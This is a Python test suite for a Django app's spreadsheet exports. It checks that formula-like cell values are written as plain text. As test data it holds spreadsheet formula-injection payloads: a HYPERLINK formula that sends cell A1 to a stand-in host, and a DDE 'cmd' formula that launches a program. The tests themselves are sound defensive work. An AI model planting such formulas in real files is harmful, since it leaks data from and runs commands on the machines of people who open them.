"""Exports never hand a spreadsheet a formula: strings starting with = + - @ (or a tab or carriage
return) are written as text, for `export_cell` on any string and for every export view (every
route named `*_export`, found from the resolver) on real data named like formulas."""

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.files.base import ContentFile
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from guardianship.models import Person
from pilot_admin.choices import ImportStatus
from pilot_admin.excel import annotated_response, export_cell, export_response, import_kinds
from pilot_admin.models import AuditEntry, ImportRun
from tasks.models import Task
from tests.helpers.excel import downloaded, workbook_bytes
from tests.test_access_matrix import (
    ROUTES,
    _request,
    _route_names,
    objects,  # noqa: F401 - the seeded rows, a fixture
)
from villages.models import Township, Village

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
EXPORTS = sorted(name for name, _ in _route_names() if name.endswith("_export"))
HOSTILE = {
    "village": '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "inspected_village": "@SUM(1+1)",
    "township": "-2+3",
    "person": "+1",
    "task": "=cmd|' /C calc'!A0",
    "audit": "\t=1+1",
}


def _cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(book):
    cells = _cells(book)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(PREFIXES):
            assert cell.data_type == "s", cell.coordinate
            assert cell.quotePrefix, cell.coordinate


def test_every_export_route_is_checked_here():
    assert (
        sorted(
            [
                "assessments:circular_export",
                "assessments:sheet_export",
                "audit_log_export",
                "guardianship:register_export",
                "guardianship:visit_matrix_export",
                "supervision_ledgers:roster_export",
                "supervision_ledgers:work_ledger_export",
                "tasks:ledger_export",
                "villages:pilot_export",
                "villages:quota_export",
                "villages:standards_export",
                "villages:village_export",
            ]
        )
        == EXPORTS
    )


@settings(max_examples=200, deadline=1000)
@given(
    prefix=st.sampled_from(PREFIXES),
    rest=st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40),
)
def test_export_cell_never_makes_a_formula_of_any_string(prefix, rest):
    sheet = Workbook(write_only=True).create_sheet()
    cell = export_cell(sheet, prefix + rest)
    assert cell.data_type == "s"
    assert cell.quotePrefix


@settings(max_examples=40, deadline=2000)
@given(
    values=st.lists(
        st.sampled_from(PREFIXES).flatmap(lambda p: st.text(max_size=20).map(lambda t: p + t)), min_size=1, max_size=5
    )
)
def test_a_written_export_reopens_with_strings_not_formulas(values):
    from pilot_admin.excel import ExportColumn

    response = export_response(filename="x.xlsx", columns=[ExportColumn("值", lambda v: v)], rows=([v] for v in values))
    book = downloaded(response)
    _assert_no_formula(book)
    assert all(cell.data_type == "s" for cell in _cells(book))


@pytest.fixture
def hostile(objects, township_a, county_admin):  # noqa: F811 - the fixture imported above
    """The seeded rows renamed like formulas (by UPDATE: no form would take some of them)."""
    Village.objects.filter(pk=objects["village"].pk).update(name=HOSTILE["village"])
    Village.objects.filter(pk=objects["inspection"].pilot.village_id).update(name=HOSTILE["inspected_village"])
    Township.objects.filter(pk=township_a.pk).update(name=HOSTILE["township"])
    Person.objects.filter(pk=objects["person"].pk).update(name=HOSTILE["person"])
    Task.objects.filter(pk=objects["task"].pk).update(title=HOSTILE["task"])
    AuditEntry.objects.create(
        actor=county_admin,
        actor_name=HOSTILE["audit"],
        action="update",
        content_type=ContentType.objects.get_for_model(Village),
        object_id=str(objects["village"].pk),
        object_repr=HOSTILE["village"],
        note=HOSTILE["audit"],
    )
    return objects


@pytest.mark.parametrize("name", EXPORTS)
def test_every_export_view_writes_formula_like_names_as_text(client, county_admin, audit_admin, hostile, name):
    # The audit log is the audit administrator's; every other export the county office's.
    client.force_login(audit_admin if name == "audit_log_export" else county_admin)
    response = _request(client, name, ROUTES[name], hostile)
    assert response.status_code == 200
    book = downloaded(response)
    _assert_no_formula(book)
    written = {cell.value for cell in _cells(book) if isinstance(cell.value, str)}
    # The export did carry hostile text (XML reads a carriage return back as a line feed).
    assert written & set(HOSTILE.values()), sorted(written)[:20]


def test_the_annotated_copy_of_an_upload_turns_its_formulas_into_text(county_admin):
    """A county admin may download the marked-up copy of a township's upload: a formula planted
    in it (in a column the import does not read) must not run on the admin's machine."""
    content = workbook_bytes(["乡镇", "村名", "备注"], [["水布垭镇", "甲村", "=cmd|' /C calc'!A0"]])
    run = ImportRun(actor=county_admin, kind="villages", filename="村.xlsx", status=ImportStatus.FAILED)
    run.upload.save("x.xlsx", ContentFile(content), save=False)
    run.errors = [{"row": 2, "column": "村名", "message": "示例错误。"}]
    run.save()
    book = downloaded(annotated_response(run, import_kinds.get("villages")))
    _assert_no_formula(book)
    assert book.worksheets[0]["C2"].value == "=cmd|' /C calc'!A0"
